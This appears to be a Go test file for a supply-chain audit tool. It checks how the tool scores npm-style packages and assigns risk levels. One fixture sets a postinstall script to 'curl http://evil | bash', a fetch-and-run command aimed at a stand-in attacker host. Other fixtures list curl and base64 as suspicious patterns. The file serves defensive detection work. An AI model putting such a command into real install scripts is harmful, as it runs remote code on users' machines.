package audit

import (
	"testing"
)

func TestLevelForScore_Thresholds(t *testing.T) {
	tests := []struct {
		score int
		want  RiskLevel
	}{
		{0, RiskSafe},
		{9, RiskSafe},
		{10, RiskLow},
		{29, RiskLow},
		{30, RiskMedium},
		{59, RiskMedium},
		{60, RiskHigh},
		{99, RiskHigh},
		{100, RiskCritical},
		{250, RiskCritical},
	}
	for _, tt := range tests {
		if got := LevelForScore(tt.score); got != tt.want {
			t.Errorf("LevelForScore(%d) = %q, want %q", tt.score, got, tt.want)
		}
	}
}

func TestScore_Empty(t *testing.T) {
	a := NewPackageAudit("left-pad")
	if got := Score(a); got != 0 {
		t.Errorf("Score(empty) = %d, want 0", got)
	}
}

func TestScore_Weights(t *testing.T) {
	a := NewPackageAudit("demo")
	a.SourceFindings = []SourceFinding{
		{Kind: FindingEvalUsage, Severity: SeverityCritical},
		{Kind: FindingCommandExecution, Severity: SeverityWarning},
		{Kind: FindingChildProcessImport, Severity: SeverityWarning},
	}
	a.SuspiciousPatterns = []SuspiciousPattern{
		{Name: "curl", Reason: "network"},
		{Name: "base64", Reason: "obfuscation"},
	}
	a.Postinstall = "node setup.js"
	a.BehavioralChains = []BehavioralChain{{Type: ChainBackdoor, Score: 90}}

	// 90 + 15*1 + 5*2 + 8*2 + 3*1
	want := 90 + 15 + 10 + 16 + 3
	if got := Score(a); got != want {
		t.Errorf("Score = %d, want %d", got, want)
	}
}

func TestScore_EmptyScriptsNotCounted(t *testing.T) {
	a := NewPackageAudit("demo")
	a.HasScripts = true
	a.Preinstall = ""
	a.Install = "node-gyp rebuild"
	if got := Score(a); got != 3 {
		t.Errorf("Score = %d, want 3 (one non-empty script)", got)
	}
}

func TestFinalize_DerivesLevel(t *testing.T) {
	a := NewPackageAudit("demo")
	a.BehavioralChains = []BehavioralChain{{Type: ChainCredentialTheft, Score: 95}}
	a.Postinstall = "curl http://evil | bash"
	a.SuspiciousPatterns = []SuspiciousPattern{{Name: "curl", Reason: "network"}}
	Finalize(a)

	want := 95 + 8 + 3
	if a.RiskScore != want {
		t.Errorf("RiskScore = %d, want %d", a.RiskScore, want)
	}
	if a.RiskLevel != RiskCritical {
		t.Errorf("RiskLevel = %q, want %q", a.RiskLevel, RiskCritical)
	}
}
